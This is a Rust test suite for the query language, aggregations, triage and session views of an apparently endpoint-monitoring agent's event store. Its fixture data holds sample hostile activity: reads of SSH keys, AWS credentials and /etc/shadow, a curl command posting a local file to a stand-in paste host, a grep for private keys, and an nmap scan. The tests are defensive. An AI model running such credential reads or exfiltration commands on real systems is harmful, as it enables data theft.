//! Query language tests on a real on-disk index: every operator, the `AND NOT` regression,
//! CIDR, time filters, aggregations, triage, and bad queries (never a panic).

mod common;

use agent_model::{Severity, Timestamp};
use agent_store::query::parse;
use agent_store::{Aggregation, Reader, SearchRequest, TriageState, parse_time_bound};
use common::*;
use proptest::prelude::*;

/// A small fixed history: e1..e4 opens, x1..x3 execs, c1..c4 connects, a1..a2 alerts.
fn fixture(dir: &std::path::Path) -> (agent_store::Store, Reader) {
    let (store, _) = open(dir);
    let evs = vec![
        open_event("e1", 1, "/home/alice/.ssh/id_rsa"),
        open_event("e2", 2, "/home/alice/.aws/credentials"),
        open_event("e3", 3, "/etc/shadow"),
        open_event("e4", 4, "/tmp/notes.txt"),
        exec_event(
            "x1",
            5,
            "/usr/bin/curl",
            &["curl", "-d", "@/tmp/x", "https://paste.example"],
        ),
        exec_event(
            "x2",
            6,
            "/usr/bin/grep",
            &["grep", "-r", "PRIVATE KEY", "/home"],
        ),
        exec_event(
            "x3",
            7,
            "/usr/bin/nmap",
            &["nmap", "-p", "1-1024", "10.0.0.0/24"],
        ),
        connect_event("c1", 8, "10.1.2.3", 22),
        connect_event("c2", 9, "192.168.1.10", 443),
        connect_event("c3", 10, "1.2.3.4", 8080),
        connect_event("c4", 11, "10.200.0.1", 1024),
    ];
    for e in &evs {
        store.append_event(e).unwrap();
    }
    store
        .append_alert(&alert(
            "a1",
            12,
            "secret-read",
            Severity::High,
            "read ssh key id_rsa",
        ))
        .unwrap();
    store
        .append_alert(&alert(
            "a2",
            13,
            "scan",
            Severity::Medium,
            "port scan by nmap",
        ))
        .unwrap();
    store.commit().unwrap();
    let r = store.reader().unwrap();
    (store, r)
}

#[test]
fn operators_fields_aliases_wildcards_phrases() {
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    // field:value on a keyword and its alias
    assert_eq!(sids(&r, "file.path:/etc/shadow"), ["e3"]);
    assert_eq!(sids(&r, "path:\"/etc/shadow\""), ["e3"]);
    // kind
    assert_eq!(sids(&r, "kind:net.connect").len(), 4);
    assert_eq!(sids(&r, "kind:alert"), ["a1", "a2"]);
    // wildcards on keywords
    assert_eq!(sids(&r, "path:/home/alice/*"), ["e1", "e2"]);
    assert_eq!(sids(&r, "exe:*/n?ap"), ["x3"]);
    // bare words search paths, cmdlines and summaries
    assert_eq!(sids(&r, "id_rsa"), ["a1", "e1"]);
    assert_eq!(sids(&r, "shadow"), ["e3"]);
    // phrases
    assert_eq!(sids(&r, "\"PRIVATE KEY\""), ["x2"]);
    assert_eq!(sids(&r, "cmdline:\"-p 1-1024\""), ["x3"]);
    assert!(sids(&r, "\"KEY PRIVATE\"").is_empty());
    // AND / OR / NOT in both cases, - and parentheses
    assert_eq!(sids(&r, "kind:file.open AND path:/etc/*"), ["e3"]);
    assert_eq!(sids(&r, "kind:file.open and path:/etc/*"), ["e3"]);
    assert_eq!(sids(&r, "kind:file.open path:/etc/*"), ["e3"]);
    assert_eq!(
        sids(&r, "path:/etc/shadow OR exe:/usr/bin/nmap"),
        ["e3", "x3"]
    );
    assert_eq!(
        sids(&r, "path:/etc/shadow or exe:/usr/bin/nmap"),
        ["e3", "x3"]
    );
    assert_eq!(
        sids(&r, "path:/etc/shadow || exe:/usr/bin/nmap"),
        ["e3", "x3"]
    );
    assert_eq!(sids(&r, "kind:file.open -path:/home/*"), ["e3", "e4"]);
    assert_eq!(
        sids(
            &r,
            "(kind:file.open OR kind:alert) AND NOT (path:/home/* OR rule:scan)"
        ),
        ["a1", "e3", "e4"]
    );
    assert_eq!(sids(&r, "kind:alert !rule:scan"), ["a1"]);
    // field groups
    assert_eq!(sids(&r, "port:(22 OR 443)"), ["c1", "c2"]);
    // numbers, ranges and comparisons
    assert_eq!(sids(&r, "net.dst_port:[1 TO 1024]"), ["c1", "c2", "c4"]);
    assert_eq!(sids(&r, "net.dst_port:{22 TO 1024}"), ["c2"]);
    assert_eq!(sids(&r, "port:>=1024"), ["c3", "c4"]);
    assert_eq!(sids(&r, "port:<443"), ["c1"]);
    assert_eq!(sids(&r, "port:[8000 TO *]"), ["c3"]);
    assert_eq!(sids(&r, "pid:4242").len(), 11);
    assert_eq!(sids(&r, "ppid:4200").len(), 11);
    // existence
    assert_eq!(sids(&r, "dst:*").len(), 4);
    assert_eq!(sids(&r, "exe:* AND NOT kind:alert").len(), 11);
    // severities, rules, tags, summaries
    assert_eq!(sids(&r, "severity:high"), ["a1"]);
    assert_eq!(sids(&r, "tag:T1552.004"), ["a1", "a2"]);
    assert_eq!(sids(&r, "summary:nmap"), ["a2"]);
    // match all
    assert_eq!(sids(&r, "*").len(), 13);
    assert_eq!(sids(&r, "").len(), 13);
}

#[test]
fn a_and_not_b_returns_a_minus_b() {
    // Regression: tantivy's own parser returns nothing for `a AND NOT b`.
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    assert_eq!(
        sids(&r, "kind:file.open AND NOT path:/etc/shadow"),
        ["e1", "e2", "e4"]
    );
    assert_eq!(sids(&r, "kind:alert and not severity:high"), ["a2"]);
    assert_eq!(
        sids(
            &r,
            "NOT kind:net.connect AND NOT kind:process.exec AND NOT kind:alert"
        ),
        ["e1", "e2", "e3", "e4"]
    );
    // A query that is only a negation.
    assert_eq!(sids(&r, "NOT kind:net.connect").len(), 9);
    assert_eq!(sids(&r, "-kind:net.connect").len(), 9);
    // OR with a negated branch.
    assert_eq!(sids(&r, "kind:alert OR NOT pid:4242").len(), 2);
}

#[test]
fn cidr_and_ip_ranges() {
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    assert_eq!(sids(&r, "net.dst_ip:10.0.0.0/8"), ["c1", "c4"]);
    assert_eq!(sids(&r, "dst:10.1.0.0/16"), ["c1"]);
    assert_eq!(sids(&r, "dst:192.168.1.10"), ["c2"]);
    assert_eq!(sids(&r, "dst:0.0.0.0/0").len(), 4);
    assert_eq!(
        sids(&r, "dst:[1.0.0.0 TO 10.255.255.255]"),
        ["c1", "c3", "c4"]
    );
    assert_eq!(sids(&r, "-dst:10.0.0.0/8 kind:net.connect"), ["c2", "c3"]);
    assert!(sids(&r, "dst:::1").is_empty());
    let err = r
        .search(&SearchRequest {
            query: "dst:10.0.0.0/33".into(),
            limit: 1,
            ..SearchRequest::default()
        })
        .unwrap_err();
    assert!(err.to_string().contains("prefix length"), "{err}");
}

#[test]
fn time_filters_and_ranges() {
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    let at = |s: i64| Timestamp(T0 + s * 1_000_000_000);
    let resp = r
        .search(&SearchRequest {
            query: "*".into(),
            since: Some(at(5)),
            until: Some(at(7)),
            limit: 100,
            offset: 0,
        })
        .unwrap();
    let got: Vec<&str> = resp.hits.iter().map(|h| h.hit.item.id()).collect();
    assert_eq!(got, ["x3", "x2", "x1"], "newest first");
    assert_eq!(sids(&r, "time:>2026-11-21T10:00:11Z"), ["a1", "a2"]);
    assert_eq!(
        sids(&r, "time:[2026-11-21T10:00:01Z TO 2026-11-21T10:00:02Z]"),
        ["e1", "e2"]
    );
    assert_eq!(sids(&r, "time:2026-11-21").len(), 13);
    assert!(sids(&r, "time:2026-11-22").is_empty());
    // Relative bounds.
    let now = Timestamp(T0 + 3600 * 1_000_000_000);
    assert_eq!(
        parse_time_bound("15m", now).unwrap(),
        Timestamp(now.0 - 900_000_000_000)
    );
    assert_eq!(
        parse_time_bound("2h", now).unwrap(),
        Timestamp(now.0 - 7_200_000_000_000)
    );
    assert_eq!(
        parse_time_bound("7d", now).unwrap(),
        Timestamp(now.0 - 7 * 86_400_000_000_000)
    );
    assert_eq!(
        parse_time_bound("2026-11-21T10:00:00Z", now).unwrap(),
        Timestamp(T0)
    );
    assert!(parse_time_bound("yesterday-ish", now).is_err());
    // Pagination.
    let page = |offset| {
        r.search(&SearchRequest {
            query: "*".into(),
            limit: 5,
            offset,
            ..SearchRequest::default()
        })
        .unwrap()
        .hits
        .iter()
        .map(|h| h.hit.item.id().to_string())
        .collect::<Vec<_>>()
    };
    assert_eq!(page(0), ["a2", "a1", "c4", "c3", "c2"]);
    assert_eq!(page(5), ["c1", "x3", "x2", "x1", "e4"]);
    assert_eq!(page(10), ["e3", "e2", "e1"]);
}

#[test]
fn aggregations() {
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    let agg = |q: &str| {
        r.search(&SearchRequest {
            query: q.into(),
            limit: 0,
            ..SearchRequest::default()
        })
        .unwrap()
        .aggregation
        .unwrap()
    };
    match agg("* | count by kind") {
        Aggregation::Terms {
            field,
            buckets,
            other,
        } => {
            assert_eq!(field, "kind");
            assert_eq!(buckets[0], ("file.open".to_string(), 4));
            assert_eq!(buckets[1], ("net.connect".to_string(), 4));
            assert_eq!(buckets.iter().map(|b| b.1).sum::<u64>(), 13);
            assert_eq!(other, 0);
        }
        other => panic!("{other:?}"),
    }
    match agg("kind:net.connect | top 2 net.dst_ip") {
        Aggregation::Terms { buckets, other, .. } => {
            assert_eq!(buckets.len(), 2);
            assert_eq!(other, 2);
            assert!(buckets.iter().all(|b| b.0.contains('.')), "{buckets:?}");
        }
        other => panic!("{other:?}"),
    }
    match agg("kind:net.connect | top 10 port") {
        Aggregation::Terms { buckets, .. } => assert_eq!(buckets.len(), 4),
        other => panic!("{other:?}"),
    }
    match agg("* | histogram 5s") {
        Aggregation::Histogram {
            buckets,
            interval_ns,
        } => {
            assert_eq!(interval_ns, 5_000_000_000);
            // seconds 1..=13 → buckets [0,5) [5,10) [10,15)
            let counts: Vec<u64> = buckets.iter().map(|b| b.1).collect();
            assert_eq!(counts, [4, 5, 4]);
            assert_eq!(buckets[0].0, Timestamp(T0));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(agg("kind:alert | count"), Aggregation::Count { count: 2 });
    let e = r
        .search(&SearchRequest {
            query: "* | count by process.cwd".into(),
            ..SearchRequest::default()
        })
        .unwrap_err();
    assert!(e.to_string().contains("cannot be aggregated"), "{e}");
}

#[test]
fn triage_is_durable_and_queryable() {
    let dir = tempfile::tempdir().unwrap();
    {
        let (s, _r) = fixture(dir.path());
        s.set_triage("a1", TriageState::Acknowledged, "looking", "bob")
            .unwrap();
        s.set_triage("a2", TriageState::Resolved, "benign scan", "bob")
            .unwrap();
        s.set_triage("a2", TriageState::Open, "reopened", "eve")
            .unwrap();
        s.commit().unwrap();
        let r = s.reader().unwrap();
        assert_eq!(sids(&r, "triage:ack"), ["a1"]);
        assert_eq!(sids(&r, "triage.state:open"), ["a2"]);
        assert!(sids(&r, "triage:resolved").is_empty());
        // Triage records themselves never show up as hits.
        assert_eq!(sids(&r, "*").len(), 13);
    }
    // After a restart, from a read-only reader.
    let r = Reader::open(dir.path()).unwrap();
    let alerts = r.alerts(None, Severity::Info, 10).unwrap();
    assert_eq!(alerts.len(), 2);
    let a1 = alerts.iter().find(|h| h.hit.item.id() == "a1").unwrap();
    assert_eq!(a1.hit.triage_state(), Some(TriageState::Acknowledged));
    assert_eq!(a1.hit.triage.as_ref().unwrap().note, "looking");
    let a2 = alerts.iter().find(|h| h.hit.item.id() == "a2").unwrap();
    assert_eq!(a2.hit.triage.as_ref().unwrap().by, "eve");
    assert_eq!(r.alerts(None, Severity::High, 10).unwrap().len(), 1);
}

#[test]
fn sessions_and_timeline() {
    let dir = tempfile::tempdir().unwrap();
    let (s, _) = open(dir.path());
    let mut root = exec_event("r1", 0, "/usr/local/bin/agent", &["agent"]);
    root.process.pid = 100;
    root.parent.as_mut().unwrap().pid = 1;
    let mut child = exec_event("r2", 1, "/usr/bin/bash", &["bash", "-c", "cat x"]);
    child.process.pid = 101;
    child.process.start = Timestamp(T0 + 1_000_000_000);
    child.parent = Some(agent_model::Parent {
        pid: 100,
        start: Some(root.process.start),
        exe: "/usr/local/bin/agent".into(),
    });
    let mut other = open_event("o1", 5, "/etc/passwd");
    other.session.as_mut().unwrap().id = "00000000000000cd".into();
    s.append_event(&child).unwrap();
    s.append_event(&root).unwrap();
    s.append_event(&open_event("r3", 2, "/etc/hosts")).unwrap();
    s.append_event(&other).unwrap();
    s.append_alert(&alert("ra", 3, "secret-read", Severity::High, "x"))
        .unwrap();
    s.commit().unwrap();
    let r = s.reader().unwrap();
    let sess = r.sessions(None).unwrap();
    assert_eq!(sess.len(), 2);
    assert_eq!(sess[0].id, "00000000000000cd", "latest start first");
    let ab = &sess[1];
    assert_eq!((ab.events, ab.alerts), (3, 1));
    assert_eq!(ab.root_exe.as_deref(), Some("/usr/local/bin/agent"));
    assert_eq!(ab.root_pid, Some(100));
    assert_eq!(ab.agent.as_deref(), Some("claude"));
    assert_eq!(ab.start, Timestamp(T0));
    let d = r.session("00000000000000ab").unwrap().unwrap();
    let order: Vec<&str> = d.events.iter().map(|h| h.item.id()).collect();
    assert_eq!(order, ["r1", "r2", "r3"]);
    assert_eq!(d.alerts.len(), 1);
    assert_eq!(d.roots.len(), 1);
    let rootp = &d.processes[d.roots[0]];
    assert_eq!(rootp.pid, 100);
    assert_eq!(rootp.children.len(), 1);
    assert_eq!(d.processes[rootp.children[0]].exe, "/usr/bin/bash");
    assert!(r.session("nope").unwrap().is_none());
}

#[test]
fn bad_queries_name_the_position() {
    for (q, pos, needle) in [
        ("path:", 5, "needs a value"),
        ("(a OR b", 0, "unbalanced `(`"),
        ("a OR b)", 6, "unbalanced `)`"),
        ("\"open phrase", 0, "unterminated phrase"),
        ("nosuch:x", 0, "unknown field `nosuch`"),
        ("port:[1 1024]", 8, "`TO`"),
        ("port:[1 TO 2", 5, "unterminated range"),
        ("a AND", 2, "`AND` needs a term after it"),
        ("OR b", 0, "`OR` needs a term before it"),
        ("NOT", 0, "`NOT` needs a term after it"),
        ("* | top x kind", 8, "`top` needs a count"),
        ("* | frobnicate", 4, "unknown aggregation"),
        ("* | count by nosuch", 13, "unknown field"),
        ("a\\", 1, "dangling"),
        ("x [1 TO 2]", 2, "range needs a field"),
        ("process.*:bash", 0, "field wildcards"),
        ("bash~", 4, "fuzzy"),
        ("exe:bash~2", 8, "fuzzy"),
        ("bash^2", 4, "boosts"),
        ("* | count by kind, rule", 17, "one field"),
        ("_exists_:nosuch", 9, "unknown field `nosuch`"),
        ("_exists_: x", 9, "needs a field name"),
    ] {
        let e = parse(q).expect_err(q);
        assert_eq!(e.pos, pos, "{q}: {e}");
        assert!(e.message.contains(needle), "{q}: {e}");
    }
    // Type errors come from the builder, also with the position.
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    for (q, needle) in [
        ("port:http", "takes a number"),
        ("dst:not-an-ip", "takes an IP"),
        ("time:>soon", "bad time"),
        ("cmdline:[a TO b]", "is text"),
        ("triage:maybe", "takes `open`"),
    ] {
        let e = r
            .search(&SearchRequest {
                query: q.into(),
                limit: 1,
                ..SearchRequest::default()
            })
            .expect_err(q);
        assert!(e.to_string().contains(needle), "{q}: {e}");
    }
    // Nesting is bounded.
    let deep = "(".repeat(10_000) + "a" + &")".repeat(10_000);
    assert!(parse(&deep).unwrap_err().message.contains("deeper"));
    let nots = "NOT ".repeat(10_000) + "a";
    assert!(parse(&nots).is_err());
}

#[test]
fn severity_is_ordered_exists_and_tilde_paths() {
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    // Levels in order, not alphabetical (where `medium` > `high`).
    assert_eq!(sids(&r, "severity:>=medium"), ["a1", "a2"]);
    assert_eq!(sids(&r, "severity:>medium"), ["a1"]);
    assert_eq!(sids(&r, "severity:<high"), ["a2"]);
    assert_eq!(sids(&r, "severity:[low TO medium]"), ["a2"]);
    assert!(sids(&r, "severity:>=critical").is_empty());
    let e = r
        .search(&SearchRequest {
            query: "severity:>=urgent".into(),
            limit: 1,
            ..SearchRequest::default()
        })
        .expect_err("urgent");
    assert!(e.to_string().contains("takes info, low"), "{e}");
    // `_exists_:FIELD` is `FIELD:*`: alerts have a rule, opens a path.
    assert_eq!(sids(&r, "_exists_:rule"), ["a1", "a2"]);
    assert_eq!(sids(&r, "_exists_:path"), sids(&r, "path:*"));
    assert_eq!(sids(&r, "_exists_:path").len(), 4);
    assert_eq!(sids(&r, "_exists_:path AND NOT _exists_:rule").len(), 4);
    // A `~` that starts a word or follows `/` is text, and an escaped one too.
    assert!(parse("path:~/.ssh/*").is_ok());
    assert!(parse("path:/home/~bob").is_ok());
    assert!(parse("bash\\~2").is_ok());
}

#[test]
fn hostile_query_strings_do_not_panic() {
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    for q in [
        "- *",
        "-*",
        "a:(^",
        "((",
        "))",
        "[",
        "]",
        "{",
        "}",
        "\"",
        "\\",
        ":",
        "::",
        "*:*",
        "a:",
        ":a",
        "port:[* TO *]",
        "dst:[* TO *]",
        "- - -",
        "NOT NOT a",
        "+",
        "+-",
        "|",
        "| count",
        "*|",
        "path:*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*",
        "\u{1b}[2J",
        "\u{202e}evil",
        "a AND NOT",
        "time:>",
        "port:>",
        "port:>=",
        "exe:\"\"",
        "\"\"",
        "path:\\*",
        "* | histogram 0s",
        "* | top 0 kind",
        "* | count by",
        "cmdline:\"  \"",
        "kind:alert OR",
    ] {
        let _ = r.search(&SearchRequest {
            query: q.into(),
            limit: 5,
            ..SearchRequest::default()
        });
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
    #[test]
    fn parser_never_panics(q in "[a-z:*?\"()\\[\\]{}\\-+!|\\\\ ><=/.0-9A-Z]{0,40}") {
        let _ = parse(&q);
    }

    #[test]
    fn parser_never_panics_on_any_string(q in any::<String>()) {
        let _ = parse(&q);
    }
}

#[test]
fn random_queries_run_against_the_index() {
    // Built queries never panic in tantivy either (e.g. `- *`).
    let dir = tempfile::tempdir().unwrap();
    let (_s, r) = fixture(dir.path());
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 300,
        ..ProptestConfig::default()
    });
    runner
        .run(
            &"(path|port|dst|time|kind|cmdline|[a-z]{1,3})?:?[a-z*?\"()\\[\\]{}\\-+!|\\\\ ><=/.0-9]{0,24}",
            |q| {
                let _ = r.search(&SearchRequest {
                    query: q,
                    limit: 3,
                    ..SearchRequest::default()
                });
                Ok(())
            },
        )
        .unwrap();
}

/// The policy engine folds repeats into one alert and re-emits it with the same id and a higher
/// count; the store keeps only the newest copy, also after a restart (replayed from the spool).
#[test]
fn a_folded_alert_update_replaces_the_earlier_copy() {
    let dir = tempfile::tempdir().unwrap();
    {
        let (s, _) = open(dir.path());
        let first = alert("fold-1", 10, "disc.port_scan", Severity::High, "scan");
        s.append_alert(&first).unwrap();
        let mut update = first.clone();
        update.count = 7;
        update.last_time = Timestamp(first.time.0 + 5_000_000_000);
        s.append_alert(&update).unwrap();
        s.append_alert(&alert("other", 11, "x.y", Severity::Low, "other"))
            .unwrap();
        s.commit().unwrap();
        let r = s.reader().unwrap();
        let hits = r.alerts(None, Severity::Info, 10).unwrap();
        assert_eq!(hits.len(), 2, "{hits:?}");
        let f = hits.iter().find(|h| h.hit.item.id() == "fold-1").unwrap();
        let agent_store::Item::Alert(a) = &f.hit.item else {
            panic!()
        };
        assert_eq!(a.count, 7);
        s.close().unwrap();
    }
    let r = Reader::open(dir.path()).unwrap();
    assert_eq!(ids(&r, "rule:disc.port_scan").len(), 1);
}

/// Dates beyond what nanoseconds in an i64 can hold are refused, not wrapped around to another
/// date (2300 used to become 1715).
#[test]
fn time_bounds_outside_the_timestamp_range_are_errors() {
    let now = Timestamp(T0);
    for s in [
        "2300-01-01T00:00:00Z",
        "2262-04-12",
        "9999-12-31T23:59:59Z",
        "1600-01-01",
    ] {
        let e = parse_time_bound(s, now).expect_err(s).to_string();
        assert!(e.contains(s) && e.contains("2262"), "{e}");
    }
    assert!(parse_time_bound("2262-04-10", now).is_ok());
    assert!(parse_time_bound("1678-01-01", now).is_ok());
    // A relative bound too far back to hold is an error too, not a wrapped date.
    assert!(parse_time_bound("100000000w", now).is_err());
}

/// `--since 15min` used to fail: the unit words a responder types are durations too.
#[test]
fn time_bounds_accept_unit_words() {
    let now = Timestamp(1_796_653_041_000_000_000);
    for (s, ns) in [
        ("15min", 900_000_000_000),
        ("15 min", 900_000_000_000),
        ("15minutes", 900_000_000_000),
        ("2hours", 7_200_000_000_000),
        ("1day", 86_400_000_000_000),
        ("30sec", 30_000_000_000),
        ("1week", 7 * 86_400_000_000_000),
        ("now-15min", 900_000_000_000),
    ] {
        assert_eq!(
            parse_time_bound(s, now).expect(s),
            Timestamp(now.0 - ns),
            "{s}"
        );
    }
    for s in ["15mins ago", "15x", "min", "15 m m"] {
        assert!(parse_time_bound(s, now).is_err(), "{s}");
    }
}
